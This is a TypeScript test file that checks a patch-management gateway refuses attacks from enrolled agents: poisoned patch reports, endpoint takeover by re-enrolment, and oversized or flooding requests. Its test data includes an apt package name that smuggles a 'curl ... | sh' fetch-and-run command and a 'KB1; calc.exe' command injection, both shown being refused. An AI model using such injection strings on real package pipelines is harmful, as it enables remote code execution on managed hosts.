/**
 * Attacks by enrolled agents (and holders of the enrol secret) against the real gateway over real HTTP, with the
 * real agent (src/agent/agent.ts) where the item is about agents: issue #11 items 1, 3 and the gateway half of 8,
 * and the scan an endpoint gets on its first enrolment (#17). Each attack is shown refused with nothing changed.
 */
import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { and, eq, inArray } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../test/helpers/db';
import { Agent } from '../agent/agent';
import { RecordingRebooter } from '../agent/reboot';
import { DrizzleAgentJobs } from '../db/agent-jobs';
import { addEnrollSecret } from '../db/agent-enroll-secrets';
import { approveEnrollment, listPendingEnrollments, rejectEnrollment } from '../db/agent-enrolment';
import { listAgents } from '../db/agent-keys';
import { patchJobTargets, setCatalogPatch } from '../db/patch-reports';
import {
  agentEnrollmentRequests,
  agentJobs,
  agentNodeKeys,
  auditLog,
  cycleTargets,
  endpointPatches,
  endpointPatchReports,
  endpoints,
  patchCycles,
  patches,
} from '../db/schema/index';
import { SecretBox } from '../db/secret-box';
import { apiRoutes } from '../api/index';
import { createLogger } from '../logging';
import type { CycleService } from '../services/cycle-service';
import { loginCli } from '../../test/helpers/cli-session';
import {
  RESULT_LIMITS,
  type EnrollResponse,
  type FoundPatch,
  type JobResult,
  type PatchJobPayload,
  type PollResponse,
} from '../shared/agent-protocol';
import { createAgentGateway, ENROLLMENT_PENDING, type AgentGateway } from './agent-gateway';
import { buildServer } from './app';

const root = path.resolve(import.meta.dirname, '..', '..');
const SECRET = 'trust-test-enrol-secret-0123456789';

let tdb: TestDatabase;
let app: FastifyInstance;
let gateway: AgentGateway;
let url: string;

beforeAll(async () => {
  tdb = await createTestDatabase();
  const logger = createLogger(process.env.TEST_LOG ?? 'silent');
  // Production defaults (scan on first enrolment, two long polls per agent), a fast refresh for the test's pace.
  gateway = createAgentGateway({
    database: tdb,
    secretBox: SecretBox.ephemeral(),
    logger,
    leaseSeconds: 30,
    refreshMs: 100,
  });
  // The API too: the CLI's agent verbs go through it.
  app = await buildServer({
    logger,
    health: [],
    routes: [gateway.routes, apiRoutes({ db: tdb.db, service: {} as CycleService, logger })],
  });
  url = await app.listen({ port: 0, host: '127.0.0.1' });
  await addEnrollSecret(tdb.db, { name: 'main', secret: SECRET });
});
afterAll(async () => {
  await app?.close();
  await tdb?.close();
});

async function call<T = Record<string, unknown>>(
  method: string,
  p: string,
  o: { key?: string; body?: unknown } = {},
): Promise<{ status: number; body: T }> {
  const res = await fetch(`${url}${p}`, {
    method,
    headers: {
      ...(o.key ? { authorization: `Bearer ${o.key}` } : {}),
      ...(o.body !== undefined ? { 'content-type': 'application/json' } : {}),
    },
    body: o.body === undefined ? undefined : JSON.stringify(o.body),
  });
  const text = await res.text();
  return { status: res.status, body: (text ? JSON.parse(text) : {}) as T };
}

const enrollBody = (machineId: string, hostname: string, extra: Record<string, unknown> = {}) => ({
  enrollSecret: SECRET,
  machineId,
  hostname,
  osFamily: 'linux',
  osName: 'Debian GNU/Linux',
  osVersion: '12',
  arch: 'x64',
  ...extra,
});

async function enroll(machineId: string, hostname: string): Promise<EnrollResponse> {
  const r = await call<EnrollResponse>('POST', '/agent/v1/enroll', { body: enrollBody(machineId, hostname) });
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  return r.body;
}

async function poll(key: string, wait = 0): Promise<PollResponse> {
  const r = await call<PollResponse>('GET', `/agent/v1/jobs?wait=${wait}`, { key });
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  return r.body;
}

/** Polls until the endpoint's next job is handed out (the enrolment scan, or one the test queued). */
async function nextJob(key: string, kind = 'scan') {
  for (let i = 0; i < 20; i++) {
    const job = (await poll(key, 1)).jobs.find((j) => j.kind === kind);
    if (job) return job;
  }
  throw new Error(`no ${kind} job handed out`);
}

const scanResult = (missing: FoundPatch[]): JobResult => ({
  status: 'succeeded',
  missing,
  patches: [],
  rebootPending: false,
});

const PATCH = 'apt:openssl:3.0.13-1~deb12u1';
const honest = (): FoundPatch => ({
  patchId: PATCH,
  title: 'openssl 3.0.11-1~deb12u2 → 3.0.13-1~deb12u1 (security)',
  vendor: 'Debian',
  product: 'openssl',
  type: 'security',
  vendorSeverity: 'high',
  severitySource: 'debian',
  cves: ['CVE-2024-0727'],
  rebootRequired: false,
  packages: [
    { manager: 'apt', name: 'openssl', version: '3.0.13-1~deb12u1' },
    { manager: 'apt', name: 'libssl3', version: '3.0.13-1~deb12u1' },
  ],
});

let machineN = 0;
const machine = (what: string) => `${what}-${++machineN}-${Date.now()}`;

async function addScanJob(endpointId: string): Promise<void> {
  await tdb.db
    .insert(agentJobs)
    .values({ id: `scan:test-${machine('job')}:n:${endpointId}`, endpointId, kind: 'scan', payload: { patchIds: [] } });
  gateway.wake([endpointId]);
}

async function audit(action: string, subjectId?: string) {
  return tdb.db
    .select()
    .from(auditLog)
    .where(and(eq(auditLog.action, action), subjectId ? eq(auditLog.subjectId, subjectId) : undefined))
    .orderBy(auditLog.id);
}

describe('#11.1 no agent changes what another endpoint installs', () => {
  it("an agent's report about a patch changes nothing for other endpoints; option-like package names are refused at the gateway", async () => {
    const victim = await enroll(machine('victim'), 'victim');
    const attacker = await enroll(machine('attacker'), 'attacker');

    // #17: each new endpoint's first poll brings a full scan, queued at enrolment.
    const vScan = await nextJob(victim.nodeKey);
    expect(vScan.payload).toEqual({ patchIds: [] });
    expect(
      (
        await call('POST', `/agent/v1/jobs/${encodeURIComponent(vScan.id)}/result`, {
          key: victim.nodeKey,
          body: scanResult([honest()]),
        })
      ).status,
    ).toBe(200);
    const [catalogBefore] = await tdb.db.select().from(patches).where(eq(patches.id, PATCH));
    expect(catalogBefore).toMatchObject({
      severity: 'important',
      supersededBy: null,
      packages: [],
      cves: ['CVE-2024-0727'],
    });
    const added = await audit('catalog.patches.reported', vScan.id);
    expect(added).toHaveLength(1);
    expect(added[0]!.details).toMatchObject({ endpointId: victim.endpointId, added: [PATCH], changed: [] });

    // The attack of the issue: the same patch id, carrying an apt option as a package name, a lower severity and a
    // successor. The poisoned entry is refused with the reason; the rest of the result (a harmless patch) counts.
    const aScan = await nextJob(attacker.nodeKey);
    const evil: FoundPatch = {
      ...honest(),
      vendorSeverity: 'low',
      supersededBy: 'apt:openssl:0.0.1-1',
      packages: [
        { manager: 'apt', name: '-oDPkg::Pre-Invoke::=curl -s http://203.0.113.9/x | sh' },
        { manager: 'apt', name: 'openssl', version: '3.0.13-1~deb12u1' },
      ],
    };
    const harmless: FoundPatch = {
      ...honest(),
      patchId: 'apt:tzdata:2024a-0+deb12u1',
      title: 'tzdata',
      packages: [{ manager: 'apt', name: 'tzdata', version: '2024a-0+deb12u1' }],
    };
    const res = await call<{ outcome: string; refused?: Array<{ patchId: string; problem: string }> }>(
      'POST',
      `/agent/v1/jobs/${encodeURIComponent(aScan.id)}/result`,
      {
        key: attacker.nodeKey,
        body: scanResult([evil, harmless]),
      },
    );
    expect(res.status).toBe(200);
    expect(res.body.refused).toEqual([
      {
        patchId: PATCH,
        problem: expect.stringMatching(/^apt package name "-oDPkg::Pre-Invoke::=curl .*" is not a Debian package name/),
      },
    ]);
    // The same result sent again (the agent retrying) is the same screened result: a duplicate, not a conflict.
    const again = await call<{ outcome: string }>('POST', `/agent/v1/jobs/${encodeURIComponent(aScan.id)}/result`, {
      key: attacker.nodeKey,
      body: scanResult([evil, harmless]),
    });
    expect(again).toMatchObject({ status: 200, body: { outcome: 'duplicate' } });
    const [aJob] = await tdb.db.select().from(agentJobs).where(eq(agentJobs.id, aScan.id));
    expect(aJob!.error).toMatch(
      /^refused 1 of 2 reported patches .*"apt:openssl:3\.0\.13-1~deb12u1": apt package name "-oDPkg::Pre-Invoke::=/,
    );
    expect((await audit('agent.result.entries_refused', aScan.id))[0]!.details).toMatchObject({
      endpointId: attacker.endpointId,
      refused: [{ patchId: PATCH }],
    });
    // Nothing of the refused entry was stored, not even for the attacker's own endpoint; the harmless one was.
    expect(
      await tdb.db.select().from(endpointPatchReports).where(eq(endpointPatchReports.endpointId, attacker.endpointId)),
    ).toEqual([expect.objectContaining({ patchId: harmless.patchId })]);
    expect(
      (await tdb.db.select().from(endpointPatches).where(eq(endpointPatches.endpointId, attacker.endpointId))).map(
        (r) => r.patchId,
      ),
    ).toEqual([harmless.patchId]);

    // Well-formed but different packages, a lower severity and a successor: the attacker's own observation only.
    await addScanJob(attacker.endpointId);
    const aScan2 = await nextJob(attacker.nodeKey);
    const lying: FoundPatch = {
      ...honest(),
      vendorSeverity: 'low',
      cves: [],
      supersededBy: 'apt:openssl:0.0.1-1',
      packages: [{ manager: 'apt', name: 'netcat-traditional', version: '1.10-47' }],
    };
    expect(
      (
        await call('POST', `/agent/v1/jobs/${encodeURIComponent(aScan2.id)}/result`, {
          key: attacker.nodeKey,
          body: scanResult([lying]),
        })
      ).status,
    ).toBe(200);
    const [catalogAfter] = await tdb.db.select().from(patches).where(eq(patches.id, PATCH));
    expect(catalogAfter).toEqual(catalogBefore);

    // What each endpoint installs: its own agent's packages. The install job the victim is handed carries its own.
    const cycleId = `trust-${machine('cycle')}`;
    await tdb.db.insert(patchCycles).values({
      id: cycleId,
      workflowId: `patch-cycle:${cycleId}`,
      policyName: 'p',
      policyVersion: 1,
      stage: 'deploying',
      requestedBy: 'test',
    });
    await tdb.db.insert(cycleTargets).values(
      [victim.endpointId, attacker.endpointId].map((endpointId) => ({
        cycleId,
        endpointId,
        patchId: PATCH,
        decision: 'include',
        priority: 1,
        riskScore: 1,
        reason: 'test',
      })),
    );
    const targets = await patchJobTargets(tdb.db, cycleId, [victim.endpointId, attacker.endpointId]);
    const byEndpoint = new Map(targets.map((t) => [t.endpointId, t.packages]));
    expect(byEndpoint.get(victim.endpointId)).toEqual(honest().packages);
    expect(byEndpoint.get(attacker.endpointId)).toEqual(lying.packages);
    await new DrizzleAgentJobs(tdb.db).dispatch({
      cycleId,
      wave: 0,
      jobs: targets
        .filter((t) => t.endpointId === victim.endpointId)
        .map((t) => ({
          endpointId: t.endpointId,
          kind: 'install' as const,
          payload: { patches: [{ patchId: t.patchId, packages: t.packages, rebootRequired: t.rebootRequired }] },
        })),
    });
    gateway.wake([victim.endpointId]);
    const install = await nextJob(victim.nodeKey, 'install');
    expect((install.payload as PatchJobPayload).patches[0]!.packages).toEqual(honest().packages);
  });

  it('an agent can only make the catalog more cautious (higher severity, more CVEs), and each change is audited', async () => {
    const a = await enroll(machine('raiser'), 'raiser');
    const id = `apt:curl:7.88.1-10+deb12u${machineN}`;
    const base: FoundPatch = {
      ...honest(),
      patchId: id,
      vendorSeverity: 'medium',
      cves: ['CVE-2024-2398'],
      packages: [{ manager: 'apt', name: 'curl', version: `7.88.1-10+deb12u${machineN}` }],
    };
    const first = await nextJob(a.nodeKey);
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(first.id)}/result`, {
      key: a.nodeKey,
      body: scanResult([base]),
    });
    const b = await enroll(machine('raiser-b'), 'raiser-b');
    const second = await nextJob(b.nodeKey);
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(second.id)}/result`, {
      key: b.nodeKey,
      body: scanResult([{ ...base, vendorSeverity: 'critical', cves: ['CVE-2024-2004'] }]),
    });
    const [row] = await tdb.db.select().from(patches).where(eq(patches.id, id));
    expect(row).toMatchObject({ severity: 'critical', cves: ['CVE-2024-2398', 'CVE-2024-2004'] });
    const changed = await audit('catalog.patches.reported', second.id);
    expect(changed[0]!.details).toMatchObject({
      added: [],
      changed: [
        {
          patchId: id,
          from: { severity: 'moderate', cves: ['CVE-2024-2398'] },
          to: { severity: 'critical', cves: ['CVE-2024-2398', 'CVE-2024-2004'] },
        },
      ],
    });
  });
  it('an agent that reports a patch first with a low-care type cannot keep it there: the next report of another type that asks more care wins, audited', async () => {
    const a = await enroll(machine('labeller'), 'labeller');
    const id = `apt:openssl:3.0.15-1~deb12u${machineN}`;
    const base: FoundPatch = {
      ...honest(),
      patchId: id,
      type: 'security',
      packages: [{ manager: 'apt', name: 'openssl', version: `3.0.15-1~deb12u${machineN}` }],
    };
    const first = await nextJob(a.nodeKey);
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(first.id)}/result`, {
      key: a.nodeKey,
      body: scanResult([{ ...base, type: 'definition' }]),
    });
    expect((await tdb.db.select().from(patches).where(eq(patches.id, id)))[0]).toMatchObject({ type: 'definition' });
    const b = await enroll(machine('labeller-b'), 'labeller-b');
    const second = await nextJob(b.nodeKey);
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(second.id)}/result`, {
      key: b.nodeKey,
      body: scanResult([base]),
    });
    expect((await tdb.db.select().from(patches).where(eq(patches.id, id)))[0]).toMatchObject({ type: 'security' });
    const c = await enroll(machine('labeller-c'), 'labeller-c');
    const third = await nextJob(c.nodeKey);
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(third.id)}/result`, {
      key: c.nodeKey,
      body: scanResult([{ ...base, type: 'definition' }]),
    });
    expect((await tdb.db.select().from(patches).where(eq(patches.id, id)))[0]).toMatchObject({ type: 'security' });
    const changed = await audit('catalog.patches.reported', second.id);
    expect(changed[0]!.details).toMatchObject({
      changed: [{ patchId: id, from: { type: 'definition' }, to: { type: 'security' } }],
    });
  });
  it('packages and successors in the catalog come from a trusted source (setCatalogPatch), checked and audited; an endpoint without its own report installs those', async () => {
    const a = await enroll(machine('trusted'), 'trusted');
    const id = `KB50${machineN}441`;
    const scan = await nextJob(a.nodeKey);
    const kb: FoundPatch = {
      ...honest(),
      patchId: id,
      vendor: 'Microsoft',
      severitySource: 'msrc',
      vendorSeverity: 'Important',
      packages: [{ manager: 'windows-update', name: id }],
    };
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(scan.id)}/result`, {
      key: a.nodeKey,
      body: scanResult([kb]),
    });
    await expect(
      setCatalogPatch(tdb.db, id, { packages: [{ manager: 'windows-update', name: 'KB1; calc.exe' }] }, 'admin:test'),
    ).rejects.toThrow(/windows-update package name "KB1; calc.exe" is not a KB number/);
    await setCatalogPatch(
      tdb.db,
      id,
      { packages: [{ manager: 'windows-update', name: id }], supersededBy: 'KB5035845' },
      'admin:test',
    );
    const [row] = await tdb.db.select().from(patches).where(eq(patches.id, id));
    expect(row).toMatchObject({ packages: [{ manager: 'windows-update', name: id }], supersededBy: 'KB5035845' });
    expect((await audit('catalog.patch.set', id))[0]).toMatchObject({
      actor: 'admin:test',
      details: { from: { packages: [], supersededBy: null }, to: { supersededBy: 'KB5035845' } },
    });
    // An endpoint in the cycle that never reported the patch itself gets the trusted catalog's packages.
    const other = await enroll(machine('no-report'), 'no-report');
    const cycleId = `trusted-${machine('cycle')}`;
    await tdb.db.insert(patchCycles).values({
      id: cycleId,
      workflowId: `patch-cycle:${cycleId}`,
      policyName: 'p',
      policyVersion: 1,
      stage: 'deploying',
      requestedBy: 'test',
    });
    await tdb.db.insert(cycleTargets).values({
      cycleId,
      endpointId: other.endpointId,
      patchId: id,
      decision: 'include',
      priority: 1,
      riskScore: 1,
      reason: 'test',
    });
    expect((await patchJobTargets(tdb.db, cycleId, [other.endpointId]))[0]!.packages).toEqual([
      { manager: 'windows-update', name: id },
    ]);
  });
  it('concurrent scans with overlapping, differently chunked patch lists never deadlock on the catalog', async () => {
    const tag = machine('chunks');
    const agents = await Promise.all([0, 1, 2, 3].map((i) => enroll(`${tag}-${i}`, `chunks-${i}`)));
    const jobs = await Promise.all(agents.map((a) => nextJob(a.nodeKey)));
    // Agent i reports patches i*150 … i*150+699: chunk boundaries (500) fall on different ids for each, and every
    // id between is new for some agents and existing for others.
    const list = (i: number) =>
      Array.from({ length: 700 }, (_, k) => ({
        ...honest(),
        patchId: `apt:pkg${String(i * 150 + k).padStart(5, '0')}-${tag}:1.0-1`,
        packages: [{ manager: 'apt', name: `pkg${i * 150 + k}`, version: '1.0-1' }],
      }));
    const results = await Promise.all(
      agents.map((a, i) =>
        call('POST', `/agent/v1/jobs/${encodeURIComponent(jobs[i]!.id)}/result`, {
          key: a.nodeKey,
          body: scanResult(list(i)),
        }),
      ),
    );
    expect(results.map((r) => r.status)).toEqual([200, 200, 200, 200]);
    const reports = await tdb.db.$count(
      endpointPatchReports,
      inArray(
        endpointPatchReports.endpointId,
        agents.map((a) => a.endpointId),
      ),
    );
    expect(reports).toBe(4 * 700);
  }, 60_000);
});

describe('#11.3 re-enrolment cannot take over an endpoint', () => {
  it('the enrol secret and a victim machine id get a pending key: the victim keeps its key and jobs, nothing about the endpoint changes', async () => {
    const machineId = machine('victim-host');
    const victim = await enroll(machineId, 'victim-host');
    const scan = await nextJob(victim.nodeKey);
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(scan.id)}/result`, {
      key: victim.nodeKey,
      body: scanResult([]),
    });
    const [before] = await tdb.db.select().from(endpoints).where(eq(endpoints.id, victim.endpointId));
    const jobId = `install:takeover:${machineN}:${victim.endpointId}`;
    await tdb.db
      .insert(agentJobs)
      .values({ id: jobId, endpointId: victim.endpointId, kind: 'install', payload: { patches: [] } });

    const attempt = await call<EnrollResponse>('POST', '/agent/v1/enroll', {
      body: enrollBody(machineId, 'attacker-box', { site: 'evil-site' }),
    });
    expect(attempt.status).toBe(202);
    expect(attempt.body).toMatchObject({
      endpointId: victim.endpointId,
      pending: true,
      message: expect.stringContaining(`patchops agents approve ${victim.endpointId}`),
    });
    const stolen = attempt.body.nodeKey;

    // The attacker's key is refused everywhere with the reason; the victim keeps working and gets its own job.
    for (const [method, p, body] of [
      ['GET', '/agent/v1/jobs?wait=0', undefined],
      ['PUT', '/agent/v1/inventory', { software: [] }],
      ['POST', `/agent/v1/jobs/${encodeURIComponent(jobId)}/result`, scanResult([])],
    ] as const) {
      const r = await call<{ error: string; message: string }>(method, p, { key: stolen, body });
      expect(r.status, `${method} ${p}`).toBe(403);
      expect(r.body.error).toBe(ENROLLMENT_PENDING);
    }
    expect((await nextJob(victim.nodeKey, 'install')).id).toBe(jobId);
    const [after] = await tdb.db.select().from(endpoints).where(eq(endpoints.id, victim.endpointId));
    expect({ ...after, lastSeenAt: null }).toEqual({ ...before, lastSeenAt: null });
    const keys = await tdb.db.select().from(agentNodeKeys).where(eq(agentNodeKeys.endpointId, victim.endpointId));
    expect(keys.map((k) => k.revokedAt)).toEqual([null]);
    expect((await audit('agent.enrollment.pending', victim.endpointId)).at(-1)!.details).toMatchObject({
      hostname: 'attacker-box',
      duplicateSuspected: true,
      remoteAddress: '127.0.0.1',
    });

    // `agents list` shows it, flagged: the victim's agent is alive.
    const listed = (await listAgents(tdb.db)).find((a) => a.endpointId === victim.endpointId)!;
    expect(listed).toMatchObject({
      pendingEnrolments: 1,
      duplicateMachineId: true,
      activeKeys: 1,
      hostname: 'victim-host',
    });

    // The victim rotating its own key needs no one: its current key is the proof.
    const rotated = await call<EnrollResponse>('POST', '/agent/v1/enroll', {
      key: victim.nodeKey,
      body: enrollBody(machineId, 'victim-host'),
    });
    expect(rotated.status).toBe(200);
    expect(rotated.body.pending).toBeUndefined();

    // An admin rejects the request: the key stays refused (401 from now on), the endpoint untouched.
    await rejectEnrollment(tdb.db, victim.endpointId, { by: 'test-admin' });
    await expect
      .poll(async () => (await call('GET', '/agent/v1/jobs?wait=0', { key: stolen })).status, { timeout: 5000 })
      .toBe(401);
    expect((await call('GET', '/agent/v1/jobs?wait=0', { key: rotated.body.nodeKey })).status).toBe(200);
    expect(await listPendingEnrollments(tdb.db, victim.endpointId)).toEqual([]);
  });

  it('`patchops agents approve` (the real CLI) hands the endpoint to the waiting key; `agents list` shows what waits', async () => {
    const machineId = machine('reinstalled');
    const old = await enroll(machineId, 'reinstalled');
    const again = await call<EnrollResponse>('POST', '/agent/v1/enroll', {
      body: enrollBody(machineId, 'reinstalled-new', { site: 'branch-9' }),
    });
    expect(again.status).toBe(202);
    const { configHome } = await loginCli(url, tdb.db, { username: 'ops', role: 'admin' });
    const env = { PATH: process.env.PATH, HOME: configHome, XDG_CONFIG_HOME: configHome, LOG_LEVEL: 'silent' };
    const cli = (args: string[]) =>
      new Promise<{ code: number; stdout: string; stderr: string }>((resolve) =>
        execFile(
          process.execPath,
          [path.join(root, 'bin', 'patchops.mjs'), ...args],
          { cwd: root, env, timeout: 60_000 },
          (err, stdout, stderr) =>
            resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
        ),
      );
    const list = await cli(['agents', 'list']);
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).toMatch(
      new RegExp(
        `enrolment\\(s\\) wait for approval[\\s\\S]*#\\d+ ${old.endpointId} \\(reinstalled\\) claimed as "reinstalled-new" linux 12 from 127\\.0\\.0\\.1`,
      ),
    );
    const approved = await cli(['agents', 'approve', 'reinstalled']);
    expect(approved.code, approved.stderr).toBe(0);
    expect(approved.stdout).toMatch(
      new RegExp(
        `^enrolment #\\d+ of ${old.endpointId} \\(reinstalled-new\\) approved: 1 earlier key\\(s\\) revoked, scan queued\\n$`,
      ),
    );
    const nothing = await cli(['agents', 'approve', old.endpointId]);
    expect(nothing.code).toBe(1);
    expect(nothing.stderr).toMatch(/no enrolment of .* waits for approval; see `patchops agents list`/);

    await expect
      .poll(async () => (await call('GET', '/agent/v1/jobs?wait=0', { key: again.body.nodeKey })).status, {
        timeout: 5000,
      })
      .toBe(200);
    await expect
      .poll(async () => (await call('GET', '/agent/v1/jobs?wait=0', { key: old.nodeKey })).status, { timeout: 5000 })
      .toBe(401);
    const [ep] = await tdb.db.select().from(endpoints).where(eq(endpoints.id, old.endpointId));
    expect(ep).toMatchObject({ hostname: 'reinstalled-new', tags: ['site:branch-9'] });
    expect((await audit('agent.enrollment.approved', old.endpointId))[0]!.actor).toBe('web:ops');
  }, 120_000);

  it('two live agents (the real agent) claiming one machine id are flagged, and do not revoke each other in a loop', async () => {
    const machineId = machine('cloned-image');
    const ac = new AbortController();
    const stateDirs = await Promise.all([0, 1].map((i) => fs.mkdtemp(path.join(os.tmpdir(), `patchops-clone-${i}-`))));
    const agentOf = (i: number) =>
      new Agent({
        serverUrl: url,
        enrollSecret: SECRET,
        stateDir: stateDirs[i]!,
        log: pino({ level: process.env.TEST_LOG ?? 'silent' }),
        platform: {
          osFamily: 'linux',
          osName: 'Debian GNU/Linux',
          osVersion: '12',
          arch: 'x64',
          hostname: `clone-${i}`,
          machineId,
        },
        backends: new Map(),
        rebooter: new RecordingRebooter(),
        waitSeconds: 1,
        signal: ac.signal,
      });
    const first = agentOf(0);
    const running = [first.run()];
    await expect
      .poll(async () => (await tdb.db.select().from(endpoints).where(eq(endpoints.machineId, machineId))).length, {
        timeout: 10_000,
      })
      .toBe(1);
    running.push(agentOf(1).run());
    await new Promise((r) => setTimeout(r, 5000));
    ac.abort();
    await Promise.all(running);

    const [ep] = await tdb.db.select().from(endpoints).where(eq(endpoints.machineId, machineId));
    const keys = await tdb.db.select().from(agentNodeKeys).where(eq(agentNodeKeys.endpointId, ep!.id));
    expect(keys.map((k) => k.revokedAt)).toEqual([null]); // the first agent's key, never revoked
    const requests = await tdb.db
      .select()
      .from(agentEnrollmentRequests)
      .where(eq(agentEnrollmentRequests.endpointId, ep!.id));
    expect(requests.map((r) => r.state)).toEqual(['pending']); // one request, not one per retry
    expect((await listAgents(tdb.db)).find((a) => a.endpointId === ep!.id)).toMatchObject({
      hostname: 'clone-0',
      pendingEnrolments: 1,
      duplicateMachineId: true,
    });
    expect(await audit('agent.enrolled', ep!.id)).toHaveLength(1);
    // The first agent ran its enrolment scan and kept polling: its scan result is recorded.
    const scans = await tdb.db
      .select()
      .from(agentJobs)
      .where(and(eq(agentJobs.endpointId, ep!.id), eq(agentJobs.kind, 'scan')));
    expect(scans.map((s) => s.state)).toEqual(['failed']); // no package manager in this test: reported as such
  }, 60_000);
});

describe('#11.8 gateway limits', () => {
  it('one agent holds one long poll at a time: each newer poll answers the older one at once, empty (the 429 cap is the backstop)', async () => {
    const a = await enroll(machine('poller'), 'poller');
    const scan = await nextJob(a.nodeKey);
    await call('POST', `/agent/v1/jobs/${encodeURIComponent(scan.id)}/result`, {
      key: a.nodeKey,
      body: scanResult([]),
    });
    const heldBefore = gateway.stats().heldPolls;
    const started = Date.now();
    const answered: number[] = [];
    const polls = [0, 1, 2].map(async (i) => {
      if (i > 0) await new Promise((r) => setTimeout(r, 300 * i));
      const r = await call<{ jobs: unknown[] }>('GET', '/agent/v1/jobs?wait=3', { key: a.nodeKey });
      answered[i] = Date.now() - started;
      return r;
    });
    await new Promise((r) => setTimeout(r, 1000));
    // The flood holds one socket, not three: the two older polls are answered already.
    expect(gateway.stats().heldPolls - heldBefore).toBe(1);
    const res = await Promise.all(polls);
    expect(res.map((r) => [r.status, r.body.jobs])).toEqual([
      [200, []],
      [200, []],
      [200, []],
    ]);
    expect(answered[0]).toBeLessThan(1000);
    expect(answered[1]).toBeLessThan(1000);
    expect(answered[2]).toBeGreaterThanOrEqual(3000);
    expect((await call('GET', '/agent/v1/jobs?wait=0', { key: a.nodeKey })).status).toBe(200);
  });

  it('refuses results whose arrays exceed the limits (400) and records nothing of them', async () => {
    const a = await enroll(machine('flooder'), 'flooder');
    const scan = await nextJob(a.nodeKey);
    const tiny = (i: number): FoundPatch => ({
      patchId: `p-${i}`,
      title: '',
      vendor: '',
      product: '',
      type: 'update',
      cves: [],
      rebootRequired: false,
      packages: [],
    });
    const tooMany = await call<{ error: string; message: string }>(
      'POST',
      `/agent/v1/jobs/${encodeURIComponent(scan.id)}/result`,
      {
        key: a.nodeKey,
        body: scanResult(Array.from({ length: RESULT_LIMITS.missing + 1 }, (_, i) => tiny(i))),
      },
    );
    expect(tooMany.status).toBe(400);
    expect(tooMany.body.message).toMatch(/^missing: /);
    const manyPackages = await call<{ error: string; message: string }>(
      'POST',
      `/agent/v1/jobs/${encodeURIComponent(scan.id)}/result`,
      {
        key: a.nodeKey,
        body: scanResult([
          {
            ...tiny(0),
            packages: Array.from({ length: RESULT_LIMITS.packagesPerPatch + 1 }, (_, i) => ({
              manager: 'apt',
              name: `pkg${i}`,
              version: '1.0',
            })),
          },
        ]),
      },
    );
    expect(manyPackages.status).toBe(400);
    expect(manyPackages.body.message).toMatch(/^missing\.0\.packages: /);
    const [job] = await tdb.db.select().from(agentJobs).where(eq(agentJobs.id, scan.id));
    expect(job).toMatchObject({ state: 'leased', result: null });
    expect(await tdb.db.select().from(endpointPatches).where(eq(endpointPatches.endpointId, a.endpointId))).toEqual([]);
  });
});

describe('#17 a newly enrolled agent scans at once', () => {
  it('first enrolment queues one scan; rotating the key queues none; an approved re-enrolment queues one', async () => {
    const machineId = machine('fresh');
    const a = await enroll(machineId, 'fresh');
    const scans = () =>
      tdb.db
        .select()
        .from(agentJobs)
        .where(and(eq(agentJobs.endpointId, a.endpointId), eq(agentJobs.kind, 'scan')));
    expect((await scans()).map((j) => j.state)).toEqual(['queued']);
    expect((await audit('agent.enrolled', a.endpointId))[0]!.details).toMatchObject({ scanQueued: true });
    const rotated = await call<EnrollResponse>('POST', '/agent/v1/enroll', {
      key: a.nodeKey,
      body: enrollBody(machineId, 'fresh'),
    });
    expect(rotated.status).toBe(200);
    expect(await scans()).toHaveLength(1);
    const pending = await call<EnrollResponse>('POST', '/agent/v1/enroll', { body: enrollBody(machineId, 'fresh') });
    expect(pending.status).toBe(202);
    expect(await scans()).toHaveLength(1);
    await approveEnrollment(tdb.db, a.endpointId, { by: 'test-admin' });
    expect(await scans()).toHaveLength(2);
  });
});
